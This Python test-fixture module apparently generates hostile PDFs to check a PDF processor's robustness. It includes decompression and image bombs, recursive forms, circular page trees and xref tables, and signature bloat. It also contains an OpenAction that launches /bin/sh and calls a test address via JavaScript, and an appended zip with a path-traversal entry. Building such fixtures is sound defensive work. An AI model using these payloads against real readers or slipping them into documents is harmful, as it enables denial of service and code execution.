"""PDFs that mean harm: each is small, and made in a moment."""

import io
import zipfile
import zlib
from collections.abc import Sequence

from tests.hostile.pictures import ADDRESS, zeros_packed

A4 = b"/MediaBox[0 0 595 842]"


def stream(data: bytes, words: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), words, data)


def packed(data: bytes, words: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode" + words)


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """The first object is the catalog."""
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj%s endobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, len(body))
    return bytes(body) + head + table + end


def page(content: bytes, *others: bytes, words: bytes = b"", catalog: bytes = b"") -> bytes:
    """One page; `others` are objects from number 5."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R%s/Contents 4 0 R%s>>" % (b"" if b"/MediaBox" in words else A4, words),
            content,
            *others,
        ]
    )


def sound() -> bytes:
    return page(stream(b"BT ET 0 0 10 10 re f"))


def content_bomb() -> bytes:
    """A page whose content unpacks to 250 MB."""
    return page(packed(b"q " * 125_000_000))


def content_bomb_twice() -> bytes:
    """… and to 4 GB, packed twice."""
    inner = zeros_packed(4096)
    return page(stream(zlib.compress(inner, 9), b"/Filter[/FlateDecode/FlateDecode]"))


def picture_bomb() -> bytes:
    """A picture of 900 million pixels on the page."""
    words = b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    picture = stream(zeros_packed(2600), b"/Filter/FlateDecode" + words)
    return page(stream(b"500 0 0 800 9 9 cm /I Do"), picture, words=b"/Resources<</XObject<</I 5 0 R>>>>")


def drawings_of_drawings() -> bytes:
    """Each drawing shows the next ten times: 10 to the 12th rectangles."""
    forms = [
        stream(
            b"/F Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>" % number,
        )
        for number in range(6, 18)
    ]
    last = stream(b"0 0 500 800 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return page(stream(b"/F Do"), *forms, last, words=b"/Resources<</XObject<</F 5 0 R>>>>")


def tiles() -> bytes:
    """A pattern of a hundred million tiles."""
    tile = stream(
        b"0 0 1 1 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .01/YStep .01/Resources<<>>",
    )
    return page(stream(b"/Pattern cs /P scn 0 0 595 842 re f"), tile, words=b"/Resources<</Pattern<</P 5 0 R>>>>")


def many_strokes() -> bytes:
    """Three million dashed curves."""
    return page(packed(b"[.01 .01] 0 d 0 0 m 9 900 900 9 595 842 c S\n" * 3_000_000))


def crowded() -> bytes:
    """A million objects, each leading to the next."""
    first = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    first.append(b"<</Type/Page/Parent 2 0 R%s/X 4 0 R>>" % A4)
    return pdf([*first, *(b"<</A %d 0 R>>" % (number + 1) for number in range(4, 1_000_000))])


def crowded_stream() -> bytes:
    """A million objects in one packed stream, and no list of where they are."""
    count = 1_000_000
    places, at = [], 0
    for number in range(count):
        places.append(b"%d %d" % (number + 10, at))
        at += 5
    inside = b" ".join(places) + b" "
    words = b"/Type/ObjStm/N %d/First %d" % (count, len(inside))
    return page(stream(b"q Q"), packed(inside + b"<<>> " * count, words))


def nested() -> bytes:
    return page(stream(b"q Q"), b"[" * 500_000 + b"]" * 500_000, words=b"/X 5 0 R")


def nested_content() -> bytes:
    return page(packed(b"q " * 3_000_000 + b"[" * 3_000_000))


def pages_in_a_ring() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>"])


def page_tree_deep() -> bytes:
    kids = [b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (n - 1, n + 1) for n in range(3, 50_000)]
    top = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    return pdf([*top, *kids, b"<</Type/Page/Parent 49999 0 R%s>>" % A4])


def many_pages() -> bytes:
    """4 900 pages of a hundred thousand letters each, all the same content."""
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 4905))
    font = b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    text = packed(b"BT /F 1 Tf 9 9 Td " + b"(aaaaaaaaaa)Tj " * 10_000 + b"ET")
    leaf = b"<</Type/Page/Parent 2 0 R%s/Contents 3 0 R%s>>" % (A4, font)
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 4900>>" % kids, text, b"<<>>", *[leaf] * 4900]
    )


def outline_in_a_ring() -> bytes:
    items = [
        b"<</First 5 0 R/Last 6 0 R/Count 2>>",
        b"<</Title(a)/Next 7 0 R/First 6 0 R>>",
        b"<</Title(b)/Next 6 0 R>>",
    ]
    return page(stream(b"q Q"), *items, catalog=b"/Outlines 5 0 R")


def many_notes() -> bytes:
    """A hundred thousand boxes to fill in on one page."""
    note = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[9 9 99 99]/DA(/F 9 Tf)>>"
    listed = b"[" + b" ".join(b"%d 0 R" % number for number in range(5, 100_005)) + b"]"
    words = b"/Annots" + listed
    return page(
        stream(b"q Q"), *[note] * 100_000, words=words, catalog=b"/AcroForm<</NeedAppearances true/Fields%s>>" % listed
    )


def huge_page() -> bytes:
    return page(stream(b"0 0 1 1 re f"), words=b"/MediaBox[0 0 14400000 14400000]/UserUnit 9999")


def tables_in_a_ring() -> bytes:
    data = pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>"]
    )
    at = data.rindex(b"startxref") + 10
    place = data[at:].split(b"\n")[0]
    return data.replace(b"/Root", b"/Prev %s/Root" % place)


def reaches_out(port: int) -> bytes:
    """Opens an address, runs a program, takes its content from elsewhere."""
    address = ADDRESS.format(port=port).encode()
    action = b"/OpenAction<</S/URI/URI(%s)/Next<</S/Launch/F(/bin/sh)/Next<</S/JavaScript/JS(app.launchURL('%s'))>>>>>>"
    content = b"<</Length 0/F<</FS/URL/F(%s)>>>>stream\n\nendstream" % address
    return page(content, catalog=action % (address, address))


def bad_signature() -> bytes:
    """Signed with ten megabytes of nested nothing."""
    signature = (
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 10 20 99999999]/Contents<%s>>>"
    )
    field = b"<</FT/Sig/T(s)/V 6 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]>>"
    form = b"/AcroForm<</Fields[5 0 R]/SigFlags 3>>"
    return page(stream(b"q Q"), field, signature % (b"30803080" * 1_000_000), words=b"/Annots[5 0 R]", catalog=form)


def many_signatures() -> bytes:
    field = b"<</FT/Sig/T(%d)/V<</Type/Sig/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<3000>>>>>"
    form = b"/AcroForm<</Fields[%s]>>" % b" ".join(b"%d 0 R" % number for number in range(5, 20_005))
    return page(stream(b"q Q"), *(field % number for number in range(20_000)), catalog=form)


def codec_bomb() -> bytes:
    """A picture in JPEG 2000 and one in JBIG2 that say to be as large as can be said."""
    size = (60_000).to_bytes(4)
    head = b"\xff\x4f\xff\x51\0\x2f\0\0" + size * 2 + bytes(8) + size * 2 + bytes(8) + b"\0\3" + b"\7\1\1" * 3
    j2k = (
        head
        + b"\xff\x52\0\x0c\0\0\0\1\1\5\4\4\0\1\xff\x5c\0\x13\x40"
        + b"\x40" * 16
        + b"\xff\x90\0\x0a\0\0\0\0\0\0\0\1\xff\x93"
    )
    jbig = b"\0\0\0\0\x30\0\1\0\0\0\x13" + size * 2 + bytes(8) + b"\0\0\0"
    image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/%s/BitsPerComponent %d/Filter/%s"
    return page(
        stream(b"500 0 0 800 9 9 cm /I Do /J Do"),
        stream(j2k, image % (b"DeviceRGB", 8, b"JPXDecode")),
        stream(jbig, image % (b"DeviceGray", 1, b"JBIG2Decode")),
        words=b"/Resources<</XObject<</I 5 0 R/J 6 0 R>>>>",
    )


def polyglot() -> bytes:
    behind = io.BytesIO()
    with zipfile.ZipFile(behind, "w") as archive:
        archive.writestr("../../outside.txt", "x")
    return sound() + behind.getvalue()
